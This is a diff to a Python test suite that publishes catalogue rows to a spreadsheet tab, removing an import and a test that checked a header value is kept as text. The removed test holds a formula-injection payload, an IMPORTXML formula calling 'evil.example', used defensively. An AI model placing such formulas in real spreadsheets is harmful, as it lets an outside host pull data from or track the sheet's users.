@@ -2,7 +2,6 @@
 
 from __future__ import annotations
 
-from dataclasses import replace
 from datetime import date, timedelta
 
 import pytest
@@ -131,12 +130,6 @@ def test_a_header_in_the_other_language_is_used_as_it_is(publish: Publish, tab: 
     publish(7)
     assert publish(7, 8, catalogue=EN) == Publication(added=1, unchanged=1)
     assert tab.rows() == [HEADER, *rows(7, 8)]
-
-
-def test_r8_no_text_becomes_a_formula(publish: Publish, tab: Tab) -> None:
-    evil = '=IMPORTXML("https://evil.example", "//a")'
-    publish(7, catalogue=replace(RU, sheet_header=(evil, *RU.sheet_header[1:])))
-    assert tab.cell(0, 0) == Cell(evil)
 
 
 def test_a_year_is_published_in_one_write(publish: Publish, google: GoogleServer, tab: Tab) -> None:
